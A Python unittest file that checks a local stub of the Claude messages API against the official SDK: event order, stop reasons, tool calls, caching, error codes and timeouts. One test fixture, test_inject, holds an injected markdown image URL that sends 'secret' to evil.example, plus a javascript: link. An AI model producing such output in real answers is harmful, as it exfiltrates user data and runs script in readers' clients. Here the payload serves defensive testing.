"""Holds `claude-chat stub` to the official SDK, which validates strictly, and to the order of events.

Environment: CLAUDE_CHAT_BIN, the binary (default: the debug build).
"""

import json
import os
import re
import subprocess
import time
import unittest
import urllib.error
import urllib.request
from pathlib import Path

import anthropic
import httpx2

import grammar

ROOT = Path(__file__).resolve().parents[2]
BINARY = Path(os.environ.get("CLAUDE_CHAT_BIN", ROOT / ".build/debug/claude-chat")).resolve()
TOOLS = [
    {"name": "find", "description": "Finds.", "input_schema": {"type": "object", "properties": {"query": {"type": "string"}}}},
    {"name": "look", "description": "Looks.", "input_schema": {"type": "object", "properties": {"query": {"type": "string"}}}},
]


class Stub(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.process = subprocess.Popen(
            [str(BINARY), "stub", "--listen", "127.0.0.1:0"], stdout=subprocess.PIPE, text=True
        )
        line = cls.process.stdout.readline()
        cls.url = line.split()[4].rstrip(",")
        cls.strict = anthropic.Anthropic(
            api_key="key", base_url=cls.url, max_retries=0, _strict_response_validation=True
        )
        cls.lenient = anthropic.Anthropic(api_key="key", base_url=cls.url, max_retries=0)

    @classmethod
    def tearDownClass(cls):
        cls.process.terminate()
        cls.process.stdout.close()
        assert cls.process.wait(timeout=30) == 0, "the stub doesn't stop"

    def setUp(self):
        self.post("/_stub/reset", b"")

    def post(self, path, body, headers=None):
        request = urllib.request.Request(self.url + path, data=body, headers=headers or {}, method="POST")
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.read()

    def arguments(self, text, **more):
        return {"model": "m", "max_tokens": 1024, "messages": [{"role": "user", "content": text}], **more}

    def raw(self, text, **more):
        """The bytes of a stream."""
        body = json.dumps(self.arguments(text, stream=True, **more)).encode()
        headers = {"content-type": "application/json", "anthropic-version": "2026-10-21", "x-api-key": "key"}
        return self.post("/v1/messages", body, headers)

    def streamed(self, text, client=None, **more):
        """The message that the SDK builds from a stream, and the types of the events that it saw."""
        with (client or self.strict).messages.create(**self.arguments(text, **more), stream=True) as stream:
            types = [event.type for event in stream]
        with (client or self.strict).messages.stream(**self.arguments(text, **more)) as stream:
            return stream.get_final_message(), types

    def text(self, message):
        return "".join(block.text for block in message.content if block.type == "text")


class Answers(Stub):
    """What the SDK takes in strict validation, streamed and not, in the right order."""

    def check(self, text, expected, stop="end_turn", **more):
        self.assertIsNone(grammar.problem(grammar.events(self.raw(text, **more))))
        message, types = self.streamed(text, **more)
        self.assertEqual((self.text(message), message.stop_reason), (expected, stop))
        self.assertEqual((types[0], types[-1]), ("message_start", "message_stop"))
        whole = self.strict.messages.create(**self.arguments(text, **more))
        self.assertEqual((self.text(whole), whole.stop_reason), (expected, stop))
        self.assertEqual(whole.usage.output_tokens, message.usage.output_tokens)
        return message

    def test_echo(self):
        self.check("Grüße 👩‍🔧", "You said: Grüße 👩‍🔧")

    def test_stop_reasons(self):
        self.check("maxtok", "This answer was short", "max_tokens")
        self.check("pause", "I go on in a moment.", "pause_turn")
        self.check("context-full", "", "model_context_window_exceeded")
        message = self.check("refuse cyber", "I will not go on with this.", "refusal")
        self.assertEqual(message.stop_details.category, "cyber")
        self.assertIsNone(self.check("refuse", "I will not go on with this.", "refusal").stop_details.category)

    def test_thinking(self):
        message = self.check("thinking", "I have thought about it.")
        self.assertEqual([block.type for block in message.content], ["thinking", "text"])
        self.assertTrue(message.content[0].signature)

    def test_extra_fields(self):
        self.check("extra-fields", "This is the answer of the stub to a scenario.")

    def test_odd_framing(self):
        expected = "This is the answer of the stub to a scenario."
        for scenario in ("crlf", "comments", "chunks:1", "chunks:3", "slow-first:20", "slow-between:2", "drop"):
            with self.subTest(scenario):
                self.check(scenario, expected)

    def test_no_event_lines(self):
        # The SDK drops events without a name; the grammar is kept.
        self.assertIsNone(grammar.problem(grammar.events(self.raw("no-event-lines"))))
        self.assertNotIn(b"event:", self.raw("no-event-lines"))

    def test_one_tool(self):
        message = self.check('tool find {"query": "dropdown é", "n": [1, null]}', "Let me look that up.", "tool_use", tools=TOOLS)
        use = message.content[1]
        self.assertEqual((use.name, use.input), ("find", {"query": "dropdown é", "n": [1, None]}))
        self.answer_tools(message, ["three found"], "tool said: three found")

    def test_two_tools(self):
        message = self.check("two-tools", "I look at two things.", "tool_use", tools=TOOLS)
        self.assertEqual([block.name for block in message.content[1:]], ["find", "look"])
        self.answer_tools(message, ["a", "b"], "tool said: a | b")

    def test_inject(self):
        message = self.check(
            "inject", "![x](https://evil.example/?q=secret) and [click](javascript:alert(1))", "tool_use", tools=TOOLS
        )
        self.assertEqual(message.content[1].name, "create_issue")

    def answer_tools(self, message, results, expected):
        content = [
            {"type": "tool_result", "tool_use_id": block.id, "content": text}
            for block, text in zip(message.content[1:], results)
        ]
        history = [
            {"role": "user", "content": "x"}, {"role": "assistant", "content": message.content},
            {"role": "user", "content": content},
        ]
        answer = self.strict.messages.create(model="m", max_tokens=99, tools=TOOLS, messages=history)
        self.assertEqual(self.text(answer), expected)
        # Without one of the results the history is refused.
        history[2]["content"] = content[1:] or "no result"
        with self.assertRaises(anthropic.BadRequestError):
            self.strict.messages.create(model="m", max_tokens=99, tools=TOOLS, messages=history)

    def test_cache(self):
        system = [{"type": "text", "text": "x" * 400, "cache_control": {"type": "ephemeral"}}]
        first, second = (
            self.strict.messages.create(**self.arguments("hello", system=system, tools=TOOLS)).usage for _ in "ab"
        )
        self.assertGreater(first.cache_creation_input_tokens, 100)
        self.assertEqual(first.cache_creation.ephemeral_5m_input_tokens, first.cache_creation_input_tokens)
        self.assertEqual(second.cache_read_input_tokens, first.cache_creation_input_tokens)
        self.assertEqual(second.cache_creation_input_tokens, 0)

    def test_count_tokens(self):
        count = self.strict.messages.count_tokens(model="m", messages=[{"role": "user", "content": "x"}])
        self.assertGreater(count.input_tokens, 0)


class Survived(Stub):
    """What is not of this year's API: raw streams keep the order, and a client that isn't strict goes on."""

    def test_unknown_block(self):
        message, _ = self.streamed("unknown-block", self.lenient)
        self.assertEqual(message.content[-1].text, "There was an unknown block.")
        self.assertIsNone(grammar.problem(grammar.events(self.raw("unknown-block"))))

    def test_unknown_stop(self):
        message, _ = self.streamed("unknown-stop", self.lenient)
        self.assertEqual(message.stop_reason, "sunset")
        self.assertIsNone(grammar.problem(grammar.events(self.raw("unknown-stop"))))

    def test_unknown_event(self):
        found = grammar.events(self.raw("unknown-event"))
        self.assertIn("weather_report", [name for name, _ in found])
        self.assertIsNone(grammar.problem([event for event in found if event[0] != "weather_report"]))


class Errors(Stub):
    def test_statuses(self):
        classes = {
            400: anthropic.BadRequestError, 401: anthropic.AuthenticationError, 403: anthropic.PermissionDeniedError,
            404: anthropic.NotFoundError, 409: anthropic.ConflictError, 413: anthropic.APIStatusError,
            422: anthropic.UnprocessableEntityError, 429: anthropic.RateLimitError,
            500: anthropic.InternalServerError, 529: anthropic.InternalServerError,
        }
        for status, kind in classes.items():
            with self.subTest(status), self.assertRaises(kind) as caught:
                self.streamed(f"err:{status}")
            self.assertEqual(caught.exception.status_code, status)
            self.assertTrue(caught.exception.request_id.startswith("req_stub_"))

    def test_error_code(self):
        with self.assertRaises(anthropic.RateLimitError) as caught:
            self.streamed("err:429:tokens_per_day")
        self.assertEqual(caught.exception.body["error"]["details"]["error_code"], "tokens_per_day")

    def test_retries(self):
        retrying = anthropic.Anthropic(api_key="key", base_url=self.url, max_retries=2, _strict_response_validation=True)
        message = retrying.messages.create(**self.arguments("err:529:retry-after-ms=1:times=2"))
        self.assertEqual(self.text(message), "You said: err:529:retry-after-ms=1:times=2")
        begun = time.monotonic()
        with self.assertRaises(anthropic.InternalServerError):
            retrying.messages.create(**self.arguments("err:529:retry-after=60:noretry"))
        self.assertLess(time.monotonic() - begun, 30)

    def test_proxies(self):
        with self.assertRaises(anthropic.InternalServerError):
            self.streamed("html-502")
        with self.assertRaises(urllib.error.HTTPError) as caught:
            self.raw_without_redirects("redirect")
        self.assertEqual(caught.exception.code, 307)
        caught.exception.close()

    def raw_without_redirects(self, text):
        class NoRedirects(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *arguments):
                return None

        body = json.dumps(self.arguments(text, stream=True)).encode()
        headers = {"content-type": "application/json", "anthropic-version": "2026-10-21", "x-api-key": "key"}
        request = urllib.request.Request(self.url + "/v1/messages", data=body, headers=headers, method="POST")
        urllib.request.build_opener(NoRedirects).open(request, timeout=60)

    def test_midstream_error(self):
        with self.assertRaises(anthropic.APIStatusError) as caught:
            self.streamed("midstream-error")
        self.assertEqual(caught.exception.body["error"]["type"], "overloaded_error")

    def test_cut(self):
        with self.assertRaises(httpx2.TransportError):
            self.streamed("cut")

    def test_broken_orders(self):
        """The SDK takes some of these; the order of events tells them all."""
        for scenario in ("no-message-stop", "no-message-delta", "no-message-start", "bad-index"):
            with self.subTest(scenario):
                self.assertIsNotNone(grammar.problem(grammar.events(self.raw(scenario))))
        with self.assertRaises(json.JSONDecodeError):
            grammar.events(self.raw("bad-json"))

    def test_times(self):
        impatient = anthropic.Anthropic(api_key="key", base_url=self.url, max_retries=0, timeout=0.5)
        with self.assertRaises(anthropic.APITimeoutError):
            impatient.messages.create(**self.arguments("slow-first:5000"))
        with self.assertRaises(httpx2.ReadTimeout), impatient.messages.create(
            **self.arguments("hang"), stream=True
        ) as stream:
            list(stream)

    def test_endless(self):
        # The SDK would wait for ever: it keeps pings to itself.
        body = json.dumps(self.arguments("endless", stream=True)).encode()
        headers = {"content-type": "application/json", "anthropic-version": "2026-10-21", "x-api-key": "key"}
        request = urllib.request.Request(self.url + "/v1/messages", data=body, headers=headers, method="POST")
        with urllib.request.urlopen(request, timeout=60) as answer:
            self.assertGreater(answer.read(5000).count(b"event: ping"), 50)

    def test_huge(self):
        self.assertGreater(len(self.raw("huge")), 8_388_608)

    def test_wrong_types(self):
        # A client must look at the type of the body: the SDK doesn't.
        body = json.loads(self.raw("json-body"))
        self.assertEqual(body["type"], "message")
        self.assertIsNone(grammar.problem(grammar.events(self.raw("wrong-type"))))


class Choosing(Stub):
    def test_by_header_and_by_next(self):
        message = self.strict.messages.create(**self.arguments("hello"), extra_headers={"x-stub-scenario": "maxtok"})
        self.assertEqual(message.stop_reason, "max_tokens")
        self.post("/_stub/next", b"pause\nerr:529\n")
        self.assertEqual(self.strict.messages.create(**self.arguments("hello")).stop_reason, "pause_turn")
        with self.assertRaises(anthropic.InternalServerError):
            self.strict.messages.create(**self.arguments("hello"))
        self.assertEqual(self.text(self.strict.messages.create(**self.arguments("hello"))), "You said: hello")
        with self.assertRaises(urllib.error.HTTPError) as caught:
            self.post("/_stub/next", b"no-such-scenario")
        caught.exception.close()

    def test_requests_are_listed_without_keys(self):
        self.strict.messages.create(**self.arguments("hello"))
        with urllib.request.urlopen(self.url + "/_stub/requests", timeout=60) as answer:
            listed = json.load(answer)["requests"]
        self.assertEqual(len(listed), 1)
        self.assertEqual(listed[0]["headers"]["authorization"], "redacted")
        self.assertEqual(listed[0]["headers"]["anthropic-version"], "2026-10-21")

    def test_every_scenario_is_tried(self):
        """Every word that the stub knows stands in a test of this file."""
        source = (ROOT / "Sources/ClaudeStub/Scenario.swift").read_text(encoding="utf-8")
        plain = source[source.index("private static let plain"):]
        words = re.findall(r'"([a-z0-9-]+)": \.', plain[: plain.index("\n    ]")])
        words += ["tool", "refuse", "err", "chunks", "slow-first", "slow-between", "huge"]
        self.assertGreater(len(words), 30)
        tests = Path(__file__).read_text(encoding="utf-8")
        self.assertEqual([word for word in words if f'"{word}' not in tests and f"'{word}" not in tests], [])


if __name__ == "__main__":
    unittest.main()
